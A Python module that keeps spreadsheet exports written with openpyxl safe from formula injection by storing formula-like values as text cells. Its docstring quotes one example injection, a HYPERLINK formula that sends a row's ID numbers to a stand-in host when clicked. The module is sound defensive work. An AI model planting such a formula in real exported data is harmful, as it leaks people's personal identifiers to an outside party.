"""Cells written as text, never as formulas: every row a writer puts in a workbook goes through
`append_row` (or `safe_row` / `safe_cell`).

openpyxl turns a str starting with "=" into a formula cell, and Excel and WPS evaluate a cell
typed or edited to start with "=", "+", "-" or "@" (also after a tab or a carriage return). A
name, hamlet or helper unit such as `=HYPERLINK("http://x/?"&C4,"a")` would otherwise run in
every reader's spreadsheet (sending the row's ID numbers away when clicked) and, having no stored
value, read back blank. Such a value is written as an inline string (data type "s") with Excel's
quotePrefix style (the cell stays text when edited), its text unchanged: no apostrophe is added,
so an export imports back exactly.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import Cell

FORMULA_STARTS = ("=", "+", "-", "@")
_LEADING = "\t\r\n "  # characters a spreadsheet skips before reading a formula's first sign


def looks_like_formula(value: Any) -> bool:
    """A str a spreadsheet would read as a formula: its first character, after any tabs,
    carriage returns, line feeds or spaces, is one of = + - @."""
    return isinstance(value, str) and value.lstrip(_LEADING).startswith(FORMULA_STARTS)


def _as_text(cell: Cell) -> Cell:
    cell.data_type = "s"
    cell.quotePrefix = True
    return cell


def safe_cell(sheet: Any, value: Any) -> Any:
    """`value` as a write-only sheet takes it: unchanged, unless it would be read as a formula,
    then a text cell holding exactly that text. A cell passed in is checked the same way."""
    if isinstance(value, Cell):
        if looks_like_formula(value.value):
            return _as_text(value)
        return value
    if looks_like_formula(value):
        return _as_text(WriteOnlyCell(sheet, value=value))
    return value


def safe_row(sheet: Any, values: Iterable[Any]) -> list[Any]:
    """A row's values through `safe_cell`."""
    return [safe_cell(sheet, value) for value in values]


def append_row(sheet: Any, values: Iterable[Any]) -> None:
    """Append one row of values to a write-only sheet, every value as text or a number, never a
    formula: the way every workbook writer adds a row."""
    sheet.append(safe_row(sheet, values))


__all__ = ["FORMULA_STARTS", "append_row", "looks_like_formula", "safe_cell", "safe_row"]
